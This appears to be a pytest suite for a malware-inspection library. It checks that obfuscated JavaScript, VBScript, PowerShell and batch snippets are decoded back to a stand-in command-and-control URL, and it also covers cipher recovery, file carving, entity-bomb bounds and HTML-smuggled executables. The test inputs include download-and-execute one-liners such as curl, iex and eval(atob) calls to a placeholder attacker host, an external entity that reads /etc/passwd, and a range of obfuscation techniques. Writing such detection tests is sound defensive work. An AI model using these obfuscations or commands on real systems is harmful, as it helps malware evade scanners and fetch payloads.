"""Scripts: the layers that they decode, what they do, and the bounds of both (catalogue B26, B50)."""

from __future__ import annotations

import base64
import codecs
import gzip
import hashlib
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sekisho_core.vocabulary import Reading
from sekisho_inspection import batch, ciphers, entities, filetype, script_encoder
from sekisho_inspection.carving import carved
from sekisho_inspection.script_layers import layers
from sekisho_inspection.script_tokens import Language, language_of, tokens
from sekisho_inspection.scripts import built
from shortcut_maker import program

Read = Callable[..., Reading]
Attach = Callable[..., bytes]
URL = "http://c2.malware.example/gate"
_B = base64.b64encode(URL.encode()).decode()


def _codes(between: str) -> str:
    return between.join(str(ord(one)) for one in URL)


JAVASCRIPT = {
    "joined": "location='ht'+'tp://c2.malware.'+'example/gate'",
    "variables": f"var a='{_B[:10]}',b='{_B[10:]}';eval(atob(a+b))",
    "growing": "var s='';s+='http://c2.';s+='malware.example';s=s+'/gate';",
    "listed": "var p=['gate','http://','c2.malware.example','/'];go(p[1]+p[2]+p[3]+p[0])",
    "pushed": "var p=[];p.push('http://c2.');p.push('malware.example/gate');go(p.join(''))",
    "codes": f"x=String.fromCharCode({_codes(',')})",
    "applied": f"x=String.fromCharCode.apply(null,[{_codes(',')}])",
    "reversed": f"x='{URL[::-1]}'.split('').reverse().join('')",
    "spread": f"x=[...'{URL[::-1]}'].reverse().join('')",
    "replaced": f"x='{'Q'.join(URL)}'.replace(/Q/g,'')",
    "class replaced": f"x='{'#'.join(URL)}'.replace(/[#@!]/g,'')",
    "member": f"x=window['at'+'ob']('{_B}')",
    "template": "const a='http://c2.';const b='malware.example';go(`${a}${b}/gate`)",
    "functions": "function a(){return 'http://c2.malw'}function b(){return 'are.example/gate'}go(a()+b())",
    "object": "o={a:'http://c2.',b:'malware.example/gate'};go(o.a+o['b'])",
    "hexadecimal": f"go(Buffer.from('{URL.encode().hex()}','hex').toString())",
    "ROT13": f"go('{codecs.encode(URL, 'rot13')}'.replace(/[a-z]/g,function(c){{return String.fromCharCode(c)}}))",
    "multiplied": f"a=[{','.join(str(3 * ord(one)) for one in URL)}];for(i in a)o+=String.fromCharCode(a[i]/3)",
    "added": f"a=[{','.join(str(1000 + ord(one)) for one in URL)}];for(i in a)o+=String.fromCharCode(a[i]-1000)",
    "twice": f"eval(atob('{base64.b64encode(f'go(atob({_B!r}))'.encode()).decode()}'))",
}
# How numbers were made of a text's characters, and code that undoes it; no word of the text is a known one.
PLAIN = "shown by c2.malware.example"
SUMS: dict[str, tuple[Callable[[int], int], str]] = {
    "arrow": (lambda code: code + 700, "go([LIST].map(c=>c-700))"),
    "function": (lambda code: code - 3, "go([LIST].map(function(c){return String.fromCharCode(c+3)}))"),
    "two steps": (lambda code: code + 9 ^ 0x155, "a=[LIST];for(i=0;i<27;i++)s+=String.fromCharCode((a[i]^0x155)-9)"),
    "wrapped": (lambda code: (code + 200) % 256, "b=new Uint8Array([LIST]);for(i in b)b[i]=(b[i]+56)&0xff"),
    "constant first": (lambda code: 1255 - code, "go([LIST].map(n=>1255-n))"),
    "split": (lambda code: code + 1234, "s='LIST'.split(',').map(n=>String.fromCharCode(n-1234)).join('')"),
    "For Each": (lambda code: code + 0x2BC, "For Each c In Array(LIST)\ns = s & Chr(c - &H2BC)\nNext\nEnd Sub"),
    "Xor": (lambda code: code ^ 513, "a = Array(LIST)\nFor i = 0 To 26\ns = s & Chr(a(i) Xor 513)\nNext\nEnd Sub"),
    "pipe": (lambda code: code + 700, "$u=-join(LIST | % { [char]($_ - 700) }); iex $u"),
    "-bxor": (lambda code: code ^ 513, "foreach($c in LIST){$u+=[char]($c -bxor 513)}; iex $u"),
}
OTHER: dict[str, str] = {
    "Chr": 'Dim a\na = Chr(&H68) & Chr(110+6) & Chr("116") & "p://c2.malware.example/gate"',
    "Split": f'For Each c In Split("{_codes("-")}","-"):x=x & Chr(c):Next\nEnd Sub',
    "StrReverse": f's = StrReverse("{URL[::-1]}")\nEnd Sub',
    "Replace": f's = Replace("{"@@".join(URL)}","@@","")\nEnd If',
    "Mid": f'Dim s\ns = Mid("xx{URL}yy", 3, {len(URL)})',
    "ticks in a word": "Invoke-RestMethod h`ttp`://c2.`malware.ex`ample/g`ate",
    "ticks in a text": '$u="http`:`/`/c2.malw`are.exam`ple/gate"; iex $u',
    "ticks before a line's end": '$u="x`nhttp://c2.malware.example/gate`n"; iex $u',
    "a code point behind a tick": '$u="htt`u{70}://c2.malware.example/gate"; iex $u',
    "format": "$a=\"{1}{0}\" -f 'malware.example/gate','http://c2.'; iex $a",
    "GetString": f"$u=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{_B}'))",
    "char": "$x=[char]104+[char]0x74+'tp://c2.malware.example/gate'",
    "char list": f"$x=[char[]]({_codes(',')}) -join ''",
    "Join": "$x=[string]::Join('',('http://','c2.malware.example','/gate'))",
    "Substring": f"$x='zz{URL}zz'.Substring(2,{len(URL)})",
    "replace": "$x=('hXXp://c2.malware.example/gate') -replace 'XX','tt'",
    "ToCharArray": f"$s='{URL[::-1]}';$r=$s.ToCharArray();[array]::Reverse($r);iex (-join $r)",
    "told": '$x="ht"+"tp"; $y="$x://c2.malware.example/gate"',
    "gzip": f"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{base64.b64encode(gzip.compress(URL.encode() * 3, mtime=0)).decode()}'))",  # noqa: E501
    "set": "@echo off\nset a=http://c2.mal\nset b=ware.example\ncurl %a%%b%/gate",
    "delayed": 'cmd /v:on /c "set x=http://c2.mal&&set y=ware.example/gate&&call curl !x!!y!"',
    "caret": "p^ower^shell -c cu^rl ht^tp://c2.mal^ware.example/gate",
    "instead": "set x=hXXp://c2.malware.example/gate\nstart %x:XX=tt%",
    "echo": "@echo off\n" + "".join(f"echo {_B[at : at + 10]}>>a.b64\n" for at in range(0, len(_B), 10)),
    "octal": "$'" + "".join(f"\\{ord(one):o}" for one in URL) + "'",
    "short hexadecimal": f'x = "{URL.encode().hex()}"\nExecute unhex(x)',
    "sh": "a=http://c2.\nb=malware.example/gate\ncurl $a$b",
}


@pytest.mark.parametrize("code", [*JAVASCRIPT.values(), *OTHER.values()], ids=[*JAVASCRIPT, *OTHER])
def test_layers(code: str) -> None:
    """B50: an address that a script puts together by its own words stands in a layer."""
    assert any(URL in text for text in layers(code).texts)


@pytest.mark.parametrize(("coded", "code"), SUMS.values(), ids=SUMS)
def test_sums(coded: Callable[[int], int], code: str) -> None:
    """B26: numbers on which a script does arithmetic come to the text that it makes of them."""
    numbers = ",".join(str(coded(ord(one))) for one in PLAIN)
    assert any(PLAIN in text for text in layers(code.replace("LIST", numbers)).texts)


def test_sums_of_unknown_bytes() -> None:
    """B26: bytes of no type are the script's where its sum alone makes bytes of the numbers, and not by a mask."""
    data = bytes(range(7, 251, 3))
    numbers = [byte + 700 for byte in data]
    assert layers(f"b=new Uint8Array({numbers}.map(x=>x-700))").unknown == [data]
    assert not layers(f"b=new Uint8Array({numbers}.map(x=>x%200))").unknown


@pytest.mark.parametrize("code", ["x = y + z", "for (;;) {}", "$a = Get-Item", "if (a < b) { c(d) }", ""])
def test_nothing_is_made_of_nothing(code: str) -> None:
    """Code without texts has no layers."""
    found = layers(code)
    assert (found.texts, found.files, found.limited) == ([], [], False)


@given(st.text(max_size=300), st.sampled_from(["js", "vbs", "ps1"]))
@settings(max_examples=200, deadline=None)
def test_any_text_has_layers(code: str, language: Language) -> None:
    """Whatever the script is, its layers are found without an exception, the same each time."""
    assert layers(code, language) == layers(code, language)


@given(st.text(alphabet="a1'\"`+=.,()[]{}$%^&|-\\/ \n#@!:~", max_size=200), st.sampled_from(["js", "vbs", "ps1"]))
@settings(max_examples=300, deadline=None)
def test_any_signs_have_layers(code: str, language: Language) -> None:
    """The same of texts that are all operators, brackets and quotation marks."""
    assert layers(code, language) == layers(code, language)


HOSTILE = {
    "quotation marks that nothing closes": '"\\' * 300_000,
    "comments that nothing closes": "/*" * 300_000,
    "brackets": "(" * 300_000,
    "sums": '"a"+' * 100_000,
    "letters": "a" * 600_000,
    "doubling": "a='xxxxxxxx';" + "a=a+a;" * 10_000,
    "growing by replacing": "x='aaaa'" + ".replace('a','aaaaaaaaaaaaaaaa')" * 10_000,
    "filling": "$x='{0}{0}{0}{0}' -f " * 20_000 + "'a'",
    "blanks": "set x=" + " " * 500_000,
    "lines": "\n" * 500_000,
    "codes": "11;" * 200_000,
    "arithmetic": f"[{'7,' * 100_000}7];" + "".join(f"x-{number};" for number in range(100)),
    "dollars": "$a" * 200_000,
    "repeating": "x='a'.repeat(4000000);" * 100,
}


@pytest.mark.parametrize("code", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("language", ["js", "ps1"])
def test_hostile_scripts_end(code: str, language: Language) -> None:
    """B21: what is made to take long or much is read to an end, within a bound of what is put together."""
    assert sum(map(len, layers(code, language).texts)) <= 16_000_000


def _wrapped(levels: int) -> str:
    code = "go('http://c2.'+'malware.example/gate')"
    for _ in range(levels):
        code = f"eval(atob('{base64.b64encode(code.encode()).decode()}'))"
    return code


@pytest.mark.parametrize("code", ["go('ab'+'cd');" * 60_000, _wrapped(12)], ids=["length", "levels"])
def test_layers_beyond_the_bounds_are_said(code: str, read: Read, attach: Attach) -> None:
    """A script with more to decode than is followed is incomplete."""
    reading = read(attach("x", ("a.js", code.encode())))
    assert ("part:2/a.js", "limit") in {(gap.where, gap.reason) for gap in reading.incomplete}


def test_layers_in_layers() -> None:
    """Six levels of the same coding are decoded."""
    assert any(URL in text for text in layers(_wrapped(6)).texts)


@pytest.mark.parametrize(
    ("code", "language"),
    [("var a = 1; function b() {}", "js"), ("Dim a\nEnd Sub", "vbs"), ("$a = [Convert]::ToBase64String($b)", "ps1")],
)
def test_language(code: str, language: Language) -> None:
    """A script is read in the language that it is written in."""
    assert language_of(code) == language


def test_tokens() -> None:
    """Escapes are undone, comments left out, and a slash divides or begins a pattern by what stands before it."""
    found = tokens("a('\\x41\\u0042') // c\n / 2; b=/[/]x/g", "js", 100)
    assert [(one.kind, one.text) for one in found if one.kind != "op"] == [
        ("word", "a"), ("text", "AB"), ("number", "2"), ("word", "b"), ("pattern", "[/]x"),
    ]  # fmt: skip


def test_encoded_scripts() -> None:
    """B50: what Microsoft's encoder made of a script is decoded, also where the end is missing."""
    assert script_encoder.decoded("#@~^DgAAAA==\\ko$K6,JC") == ['MsgBox "H']
    assert script_encoder.decoded("a text") == []


@pytest.mark.parametrize("key", [b"\x01", b"Z", b"\xff", b"secret", bytes([7, 200, 33])])
def test_ciphers(key: bytes) -> None:
    """A program under a key is found by any key of one byte, and by longer ones that are known."""
    plain = program()
    coded = bytes(byte ^ key[at % len(key)] for at, byte in enumerate(plain))
    assert ciphers.solved(coded, [b"no", key]) == plain
    assert len(key) == 1 or ciphers.solved(coded, []) is None


def test_shifted_texts() -> None:
    """A text whose characters are shifted is found by the words that it would have."""
    coded = bytes((byte + 9) & 255 for byte in URL.encode())
    assert ciphers.solved(coded, []) == URL.encode()


@given(st.binary(max_size=400))
def test_noise_has_no_key(data: bytes) -> None:
    """Bytes without a plan are taken for nothing, and no length raises."""
    found = ciphers.solved(data, [b"key"])
    assert found is None or len(found) == len(data)


def test_carved_files() -> None:
    """Files that stand one behind another are cut where the next begins; a ZIP is one file."""
    content = b"junk" + b"{\\rtf1 a}" + program() + b"PK\x03\x04aPK\x03\x04b"
    assert [piece[:4] for _, piece in carved(content)] == [b"{\\rt", b"MZ\0\0", b"PK\x03\x04"]


def test_entities_are_bounded() -> None:
    """B49: entities of the document's own are put in place; a bomb of them, and what lies elsewhere, is not."""
    assert entities.expanded("<!ENTITY a 'b'>&a;&c;") == "<!ENTITY a 'b'>b&c;"
    bomb = "<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '" + "&a;" * 900 + "'>" + "&b;" * 900
    assert len(entities.expanded(bomb)) <= 4 * len(bomb)
    outside = "<!ENTITY a SYSTEM 'file:///etc/passwd'>&a;"
    assert entities.expanded(outside) == outside


@given(st.text(max_size=200))
def test_any_batch_file(text: str) -> None:
    """Lines without variables stay as they are but for their escapes; nothing raises."""
    assert batch.expanded(text) == batch.expanded(text)


def test_page_without_a_file(read: Read, attach: Attach) -> None:
    """B51: a page that saves what its reader typed, or holds pictures and fonts, is no file that could not be read."""
    script = "var t=document.forms[0].x.value;l.href=URL.createObjectURL(new Blob([t]));l.download='a.csv';"
    font = base64.b64encode(b"wOF2" + bytes(range(256)) * 9).decode()
    page = f"<style>@font-face{{src:url(data:font/woff2;base64,{font})}}</style><script>{script}</script>"
    assert read(attach("x", ("a.html", page.encode()))).incomplete == ()


@pytest.mark.parametrize("size", [2, 4])
def test_files_of_words(size: int) -> None:
    """B26: a file in numbers of two or four bytes each is found."""
    plain = program()
    words = [str(int.from_bytes(plain[at : at + size], "little")) for at in range(0, len(plain), size)]
    assert plain in built(f"new Blob([new Uint32Array([{','.join(words)}])])").files


def test_file_in_many_short_attributes(read: Read, attach: Attach) -> None:
    """B26: a file whose pieces stand in the attributes of many elements is put together."""
    coded = base64.b64encode(program()).decode()
    pieces = "".join(f"<i data-v='{coded[at : at + 20]}'></i>" for at in range(0, len(coded), 20))
    reading = read(attach("x", ("a.html", f"{pieces}<script>new Blob([atob(all())])</script>".encode())))
    assert [part.type for part in reading.parts if part.origin.reading == "script"] == [filetype.PE]


def test_first_pieces_are_no_files() -> None:
    """Of a file in two variables the first, which decodes by itself, is not taken for another file."""
    coded = base64.b64encode(program()).decode()
    assert built(f"a='{coded[:800]}';b='{coded[800:]}';new Blob([atob(a+b)])").files == [program()]


NOISE = hashlib.shake_128(b"noise").digest(900)
_SAVED = "a.href=URL.createObjectURL(new Blob([b]));a.download='a.dat';"


def _saved(code: str) -> bytes:
    return f"<script>d='{base64.b64encode(NOISE).decode()}';{code}{_SAVED}</script>".encode()


@pytest.mark.parametrize(
    "code",
    ["b=Uint8Array.from(atob(d),c=>c.charCodeAt(0));", "s=atob(d);for(i=0;i<s.length;i++)b[i]=s.charCodeAt(i);"],
)
def test_saved_file_without_a_type(read: Read, attach: Attach, code: str) -> None:
    """B26: bytes of no known type that a page saves as they are become a part, with its hash."""
    reading = read(attach("x", ("a.html", _saved(code))))
    parts = [(part.sha256, part.names) for part in reading.parts if part.origin.reading == "script"]
    assert (parts, reading.incomplete) == ([(hashlib.sha256(NOISE).hexdigest(), ("a.dat",))], ())


@pytest.mark.parametrize(
    "code",
    ["for(i in d)b[i]=atob(d).charCodeAt(i)-k;", "b=decrypt(atob(d),k);", "for(i in d)b[i]=s[i]^k[i%4];", "b=d[1]+k;"],
)
def test_saved_file_that_is_altered(read: Read, attach: Attach, code: str) -> None:
    """B26: bytes that a page changes before it saves them are a file that was not read."""
    reading = read(attach("x", ("a.html", _saved(code))))
    assert [gap.reason for gap in reading.incomplete] == ["unreadable"]


def test_saved_file_in_pieces_of_no_type() -> None:
    """B26: several large pieces of no type are no file of their own."""
    pieces = [base64.b64encode(bytes(NOISE[::step]) + NOISE[step:]).decode() for step in (-1, 1)]
    made = built(f"a='{pieces[0]}';b='{pieces[1]}';new Blob([f(a,b)]);x.download='a.dat'")
    assert (made.files, made.unread) == ([], True)
